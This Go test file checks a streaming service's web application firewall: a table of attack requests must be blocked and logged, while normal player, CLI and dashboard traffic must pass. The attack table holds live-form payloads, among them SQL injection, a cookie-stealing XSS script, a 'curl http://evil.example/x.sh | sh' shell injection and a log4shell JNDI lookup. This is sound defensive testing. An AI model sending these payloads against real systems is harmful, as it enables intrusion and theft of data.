package waf

import (
	"crypto/ed25519"
	"crypto/rand"
	"fmt"
	"net/netip"
	"regexp"
	"strings"
	"testing"
	"time"

	"onair/internal/signing"
)

// attackCases are classic attacks on full-mode endpoints, each of which
// the core rule set at paranoia level 1 must block; rules are CRS rule
// ids of which at least one must be in the log line.
var attackCases = []struct {
	name  string
	req   req
	rules []string
}{
	{"sqli tautology in query", req{method: "GET", target: "/api/v1/channels?id=1'%20OR%20'1'='1"}, []string{"942100"}},
	{"sqli union select", req{method: "GET", target: "/api/v1/channels/news?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"}, []string{"942100", "942190"}},
	{"sqli in json body", req{method: "POST", target: "/api/v1/channels",
		headers: []string{"Content-Type: application/json"},
		body:    `{"name":"news' OR 1=1--","ladder":["720p30"]}`}, []string{"942100"}},
	{"sqli in license body", req{method: "POST", target: "/keys/license",
		body: `{"kids":["1' UNION SELECT password FROM keys--"],"type":"temporary"}`}, []string{"942100", "942190"}},
	{"xss script tag in query", req{method: "GET", target: "/live/news/master.m3u8?q=%3Cscript%3Ealert(1)%3C/script%3E"}, []string{"941100", "941110"}},
	{"xss in json body", req{method: "PATCH", target: "/api/v1/channels/news",
		headers: []string{"Content-Type: application/json"},
		body:    `{"slate_text":"<script>document.location='http://evil.example/?'+document.cookie</script>"}`}, []string{"941100", "941110"}},
	{"xss event handler", req{method: "GET", target: "/api/v1/events?x=%3Cimg%20src=x%20onerror=alert(1)%3E"}, []string{"941100", "941110", "941160"}},
	{"path traversal", req{method: "GET", target: "/live/../../etc/passwd"}, []string{"930100", "930110", "930120"}},
	{"path traversal encoded", req{method: "GET", target: "/live/%2e%2e/%2e%2e/etc/passwd"}, []string{"930100", "930110", "930120"}},
	{"path traversal double encoded", req{method: "GET", target: "/live/%252e%252e/%252e%252e/etc/passwd"}, []string{"930100"}},
	{"path traversal in param", req{method: "GET", target: "/api/v1/events?file=../../../../etc/passwd"}, []string{"930100", "930110", "930120"}},
	{"crlf in query (response splitting)", req{method: "GET", target: "/live/news/master.m3u8?lang=en%0d%0aSet-Cookie:%20session=evil"}, []string{"921120", "921130", "921150", "921160"}},
	{"crlf in header value", req{method: "GET", target: "/api/v1/channels", headers: []string{"X-Forwarded-Host: onair.example%0d%0aSet-Cookie:%20a=b"}}, []string{"921120", "921130", "921140", "921150", "921160"}},
	{"shell injection", req{method: "GET", target: "/api/v1/channels?name=news;cat%20/etc/passwd"}, []string{"932160", "932230", "930120"}},
	{"shell injection in body", req{method: "POST", target: "/api/v1/channels/news/tokens",
		headers: []string{"Content-Type: application/json"},
		body:    `{"session":"x; curl http://evil.example/x.sh | sh"}`}, []string{"932230", "932235", "932250", "932260"}},
	{"scanner user agent", req{method: "GET", target: "/api/v1/channels", headers: []string{"User-Agent: sqlmap/1.8.2#stable (https://sqlmap.org)"}}, []string{"913100"}},
	{"php code injection", req{method: "GET", target: "/api/v1/channels?x=%3C?php%20system($_GET['c']);%20?%3E"}, []string{"933100"}},
	{"log4shell", req{method: "GET", target: "/api/v1/channels", headers: []string{"X-Api-Version: ${jndi:ldap://evil.example/a}"}}, []string{"944150"}},
	// A token-shaped onair_token is not inspected by the attack rules
	// (exclusion 1002); anything else in its place is.
	{"sqli as onair_token", req{method: "GET", target: "/live/news/master.m3u8?onair_token=1'%20OR%20'1'='1"}, []string{"942100"}},
	{"sqli beside a token-shaped onair_token", req{method: "GET",
		target: "/live/news/master.m3u8?onair_token=" + shapedToken + "&onair_token=1%20UNION%20SELECT%20kid,key%20FROM%20keys--"}, []string{"942100", "942190"}},
	{"xss after a token-shaped prefix", req{method: "GET",
		target: "/live/news/master.m3u8?onair_token=" + shapedToken + "%3Cscript%3Ealert(1)%3C/script%3E"}, []string{"941100", "941110"}},
	{"sqli in a form's onair_token beside a token-shaped one", req{method: "POST", target: "/keys/license?onair_token=" + shapedToken,
		headers: []string{"Content-Type: application/x-www-form-urlencoded"},
		body:    "onair_token=1%27%20UNION%20SELECT%20kid,key%20FROM%20keys--"}, []string{"942100", "942190"}},
	{"xss in token cookie", req{method: "GET", target: "/live/news/master.m3u8",
		headers: []string{"Cookie: onair_token=%3Cscript%3Ealert(document.domain)%3C/script%3E"}}, []string{"941100", "941110"}},
}

// shapedToken has a signed token's grammar (internal/signing): base64url
// policy, 86-character signature, key id.
const shapedToken = "eyJjaGFubmVsIjoibmV3cyIsImV4cGlyZXMiOjE3NjcyMjU2MDB9." +
	"3qR8xYk1abcDEFghiJKLmnoPQRstuVWxyz0123456789-_abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMN" + ".k2026"

func TestAttacksBlocked(t *testing.T) {
	f := newFixture(t, Config{IPRate: Limit{Rate: -1}, TokenRate: Limit{Rate: -1}})
	idRE := regexp.MustCompile(`request id ([0-9a-f]{16})`)
	for _, tc := range attackCases {
		t.Run(tc.name, func(t *testing.T) {
			tc.req.headers = append([]string{"Accept: */*"}, tc.req.headers...)
			if !strings.Contains(strings.Join(tc.req.headers, "\n"), "User-Agent") {
				tc.req.headers = append(tc.req.headers, "User-Agent: "+browserUA)
			}
			before := f.blocked(reasonRule)
			res := f.do(t, tc.req)
			if res.status != 403 {
				t.Fatalf("status %d, want 403 (body %q)", res.status, res.body)
			}
			m := idRE.FindStringSubmatch(res.body)
			if m == nil {
				t.Fatalf("body %q names no request id", res.body)
			}
			text := strings.Replace(res.body, m[1], "", 1)
			for _, leak := range []string{"949110", "942", "941", "930", "anomaly", "OWASP", "SQL"} {
				if strings.Contains(text, leak) {
					t.Errorf("body %q tells the client about the rules (%q)", res.body, leak)
				}
			}
			if got := res.header.Get("Cache-Control"); got != "no-store" {
				t.Errorf("Cache-Control %q, want no-store", got)
			}
			if got := f.blocked(reasonRule) - before; got != 1 {
				t.Errorf("onair_waf_blocked_total{reason=rule} rose by %v, want 1", got)
			}
			line := logLine(t, f.log.String(), "request_id="+m[1])
			for _, want := range []string{"reason=rule", "client_ip=127.0.0.1", "method=" + tc.req.method, "rule_id=949110", "anomaly_score="} {
				if !strings.Contains(line, want) {
					t.Errorf("log line lacks %q: %s", want, line)
				}
			}
			found := false
			for _, id := range tc.rules {
				found = found || regexp.MustCompile(`rules="?\[[0-9 ]*\b`+id+`\b`).MatchString(line)
			}
			if !found {
				t.Errorf("log line names none of rules %v: %s", tc.rules, line)
			}
			select {
			case b := <-f.seen:
				t.Errorf("blocked request reached the handler (body %q)", b)
			default:
			}
		})
	}
}

// logLine returns the log line that contains marker.
func logLine(t *testing.T, log, marker string) string {
	t.Helper()
	for l := range strings.Lines(log) {
		if strings.Contains(l, marker) {
			return l
		}
	}
	t.Fatalf("no log line with %q in:\n%s", marker, log)
	return ""
}

// normalCases are requests onair's players, CLI, dashboard and license
// clients make; none may be blocked.
func normalCases(t testing.TB) []struct {
	name string
	req  req
} {
	tok := testToken(t, 0)
	hlsjs := []string{"User-Agent: " + browserUA, "Accept: */*", "Accept-Encoding: gzip, deflate, br, zstd",
		"Accept-Language: en-US,en;q=0.9", "Origin: https://player.example", "Referer: https://player.example/watch?v=news",
		`Sec-Ch-Ua: "Chromium";v="131", "Not_A Brand";v="24"`, "Sec-Ch-Ua-Mobile: ?0", `Sec-Ch-Ua-Platform: "Linux"`,
		"Sec-Fetch-Dest: empty", "Sec-Fetch-Mode: cors", "Sec-Fetch-Site: cross-site"}
	cli := []string{"User-Agent: Go-http-client/1.1", "Accept: application/json", "Accept-Encoding: gzip",
		"Authorization: Bearer 3f9a0c1e5b7d2f4a6c8e0b1d3f5a7c9e1b3d5f7a9c0e2b4d"}
	cliJSON := append([]string{"Content-Type: application/json"}, cli...)
	dashboard := append([]string{"Cookie: onair_session=8d3c0b7f2a91e4d65c0a7b3e9f1d2c4a6b8e0f1a3c5d7e9b2f4a6c8e0d1b3f5a"}, hlsjs...)
	return []struct {
		name string
		req  req
	}{
		{"multivariant playlist", req{method: "GET", target: "/live/news/master.m3u8", headers: hlsjs}},
		{"media playlist", req{method: "GET", target: "/live/news/720p30/index.m3u8", headers: hlsjs}},
		{"blocking playlist reload", req{method: "GET", target: "/live/news/720p30/index.m3u8?_HLS_msn=1842&_HLS_part=3", headers: hlsjs}},
		{"blocking reload with delta", req{method: "GET", target: "/live/news/720p30/index.m3u8?_HLS_msn=1842&_HLS_part=0&_HLS_skip=YES", headers: hlsjs}},
		{"delta v2", req{method: "GET", target: "/live/news/1080p30/index.m3u8?_HLS_skip=v2", headers: hlsjs}},
		{"dash mpd", req{method: "GET", target: "/live/news/manifest.mpd", headers: hlsjs}},
		{"playlist with token", req{method: "GET", target: "/live/news/master.m3u8?onair_token=" + tok, headers: hlsjs}},
		{"reload with token", req{method: "GET", target: "/live/news/720p30/index.m3u8?_HLS_msn=7&_HLS_part=1&onair_token=" + tok, headers: hlsjs}},
		{"playlist with token cookie", req{method: "GET", target: "/live/news/720p30/index.m3u8", headers: append([]string{"Cookie: onair_token=" + tok}, hlsjs...)}},
		{"segment", req{method: "GET", target: "/live/news/720p30/1842.m4s", headers: hlsjs}},
		{"part", req{method: "GET", target: "/live/news/720p30/1842.3.m4s", headers: hlsjs}},
		{"init", req{method: "GET", target: "/live/news/720p30/init.mp4", headers: hlsjs}},
		{"segment with range", req{method: "GET", target: "/live/news/720p30/1842.m4s", headers: append([]string{"Range: bytes=0-1023"}, hlsjs...)}},
		{"cors preflight", req{method: "OPTIONS", target: "/live/news/master.m3u8", headers: append([]string{"Access-Control-Request-Method: GET", "Access-Control-Request-Headers: range"}, hlsjs...)}},
		{"time", req{method: "GET", target: "/time", headers: hlsjs}},
		{"list channels", req{method: "GET", target: "/api/v1/channels", headers: cli}},
		{"create channel", req{method: "POST", target: "/api/v1/channels", headers: cliJSON, body: `{"name":"news","ladder":["720p30"]}`}},
		{"create channel full", req{method: "POST", target: "/api/v1/channels", headers: cliJSON,
			body: `{"name":"sports-2","ladder":["1080p30","720p30","480p30","360p30"],"low_latency":true,"pipelines":"standard","access":"signed","geo":{"allow":["US","CA","GB"],"unknown":"deny"},"inputs":{"loss_after":"2s","clear_after":"5s","black_after":"10s","slate":true,"slate_text":"We'll be right back"}}`}},
		{"update channel", req{method: "PATCH", target: "/api/v1/channels/news", headers: cliJSON, body: `{"access":"public","geo":{"deny":["KP"]},"pipelines":"single"}`}},
		{"delete channel", req{method: "DELETE", target: "/api/v1/channels/news", headers: cli}},
		{"issue token", req{method: "POST", target: "/api/v1/channels/news/tokens", headers: cliJSON, body: `{"ttl":"1h","ip":"203.0.113.0/24","session":"viewer-42"}`}},
		{"pipeline action", req{method: "POST", target: "/api/v1/channels/news/pipelines/b", headers: cliJSON, body: `{"action":"promote"}`}},
		{"start channel", req{method: "POST", target: "/api/v1/channels/news/start", headers: cli}},
		{"select input", req{method: "POST", target: "/api/v1/channels/news/input", headers: cliJSON, body: `{"input":"backup"}`}},
		{"events", req{method: "GET", target: "/api/v1/events?channel=news&since=2026-11-01T12:00:00Z&limit=100", headers: cli}},
		{"dashboard login", req{method: "GET", target: "/?token=3f9a0c1e5b7d2f4a6c8e0b1d3f5a7c9e1b3d5f7a9c0e2b4d", headers: hlsjs}},
		{"dashboard page", req{method: "GET", target: "/channels/news", headers: dashboard}},
		{"dashboard api", req{method: "GET", target: "/api/v1/channels/news", headers: append([]string{"Cache-Control: no-cache", "Pragma: no-cache"}, dashboard...)}},
		{"dashboard events", req{method: "GET", target: "/api/v1/events?channel=news&limit=10", headers: dashboard}},
		{"dashboard token", req{method: "POST", target: "/api/v1/channels/news/tokens", headers: append([]string{"Content-Length: 0", "Cache-Control: no-cache", "Pragma: no-cache"}, dashboard...)}},
		{"dashboard asset", req{method: "GET", target: "/assets/vendor/hls.min.js", headers: dashboard}},
		{"cli on a numeric host", req{method: "GET", target: "/api/v1/channels", headers: append([]string{"Host: 127.0.0.1:8080"}, cli...)}},
		{"player on a numeric host", req{method: "GET", target: "/live/news/720p30/index.m3u8?_HLS_msn=5&_HLS_part=0&onair_token=" + tok, headers: append([]string{"Host: [::1]:8080"}, hlsjs...)}},
		{"prometheus on a numeric host", req{method: "GET", target: "/metrics", headers: []string{"Host: 10.0.0.5:9090", "User-Agent: Prometheus/3.1.0", "Accept: text/plain;version=0.0.4"}}},
		{"license json", req{method: "POST", target: "/keys/license", headers: append([]string{"Content-Type: application/json"}, hlsjs...),
			body: `{"kids":["nrQFDeRLSAKTLifXUIPiZg"],"type":"temporary"}`}},
		{"license without content type", req{method: "POST", target: "/keys/license", headers: hlsjs,
			body: `{"kids":["nrQFDeRLSAKTLifXUIPiZg","FmY0xnWCPCNaSpRG-tUuTQ"],"type":"temporary"}`}},
		{"license with token", req{method: "POST", target: "/keys/license?onair_token=" + tok, headers: hlsjs,
			body: `{"kids":["nrQFDeRLSAKTLifXUIPiZg"],"type":"temporary"}`}},
		{"license text/plain", req{method: "POST", target: "/keys/license", headers: append([]string{"Content-Type: text/plain;charset=UTF-8"}, hlsjs...),
			body: `{"kids":["nrQFDeRLSAKTLifXUIPiZg"],"type":"temporary"}`}},
		{"curl", req{method: "GET", target: "/api/v1/channels", headers: []string{"User-Agent: curl/7.88.1", "Accept: */*", "Authorization: Bearer s3cr3t-operator-token"}}},
		{"metrics", req{method: "GET", target: "/metrics", headers: []string{"User-Agent: Prometheus/3.1.0", "Accept: application/openmetrics-text;version=1.0.0;q=0.5,text/plain;version=0.0.4;q=0.3,*/*;q=0.2"}}},
	}
}

func TestNormalTraffic(t *testing.T) {
	f := newFixture(t, Config{IPRate: Limit{Rate: -1}, TokenRate: Limit{Rate: -1}})
	for _, tc := range normalCases(t) {
		t.Run(tc.name, func(t *testing.T) {
			res := f.do(t, tc.req)
			if res.status != 200 || res.body != "ok" {
				t.Fatalf("status %d body %q, want 200 ok; log:\n%s", res.status, res.body, f.log.String())
			}
			if got := <-f.seen; got != tc.req.body {
				t.Errorf("handler read body %q, want %q", got, tc.req.body)
			}
		})
	}
	if n := f.blocked(reasonRule) + f.blocked(reasonURLShape); n != 0 {
		t.Errorf("%v requests blocked", n)
	}
	if f.requests(ModeCheap) != 4 {
		t.Errorf("cheap requests %v, want 4 (segment, part, init, ranged segment)", f.requests(ModeCheap))
	}
}

// TestNormalTokens checks many real signed tokens (random keys and
// signatures) in each place a player puts them: a token's random base64url
// must never look like an attack to the rules.
func TestNormalTokens(t *testing.T) {
	f := newFixture(t, Config{IPRate: Limit{Rate: -1}, TokenRate: Limit{Rate: -1}})
	n := 100
	if testing.Short() {
		n = 20
	}
	for i := range n {
		tok := testToken(t, i)
		for _, r := range []req{
			{method: "GET", target: "/live/news/720p30/index.m3u8?_HLS_msn=12&_HLS_part=1&onair_token=" + tok},
			{method: "GET", target: "/live/news/master.m3u8", headers: []string{"Cookie: onair_token=" + tok}},
			{method: "GET", target: "/api/v1/channels", headers: []string{"Authorization: Bearer " + tok}},
		} {
			r.headers = append(r.headers, "User-Agent: "+browserUA, "Accept: */*")
			if res := f.do(t, r); res.status != 200 {
				t.Fatalf("token %q in %s %s: status %d; log:\n%s", tok, r.target, r.headers, res.status, f.log.String())
			}
			<-f.seen
		}
	}
}

// testToken returns a signed playback token made with a fresh key; i
// varies the policy.
func testToken(t testing.TB, i int) string {
	t.Helper()
	_, key, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	s, err := signing.NewSigner(fmt.Sprintf("k%d", 2026+i%7), key)
	if err != nil {
		t.Fatal(err)
	}
	p := signing.Policy{Resource: "/live/news/*", Expires: time.Unix(1767225600+int64(i)*3607, 0), Channel: "news"}
	if i%2 == 1 {
		p.IP = netip.MustParsePrefix("203.0.113.0/24")
		p.Session = fmt.Sprintf("viewer-%d", i*7919)
	}
	tok, err := s.Sign(p)
	if err != nil {
		t.Fatal(err)
	}
	return tok
}
